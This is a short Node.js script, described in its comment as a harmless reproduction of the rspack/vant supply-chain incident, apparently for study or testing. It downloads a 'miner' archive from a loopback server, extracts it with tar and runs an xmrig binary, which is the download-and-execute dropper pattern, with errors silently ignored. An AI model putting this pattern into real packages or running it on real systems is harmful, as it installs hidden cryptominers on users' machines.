// Harmless reproduction of the rspack/vant incident: fetch a "miner"
// archive from a loopback server, extract it with tar, run the miner once.
const http = require('http');
const fs = require('fs');
const cp = require('child_process');
http.get('http://127.0.0.1:8081/payload.tar.gz', (res) => {
  const out = fs.createWriteStream('miner.tar.gz');
  res.pipe(out);
  out.on('finish', () => out.close(() => {
    cp.execFileSync('tar', ['xzf', 'miner.tar.gz']);
    cp.execFileSync('./xmrig', ['0.1']);
  }));
}).on('error', () => {});
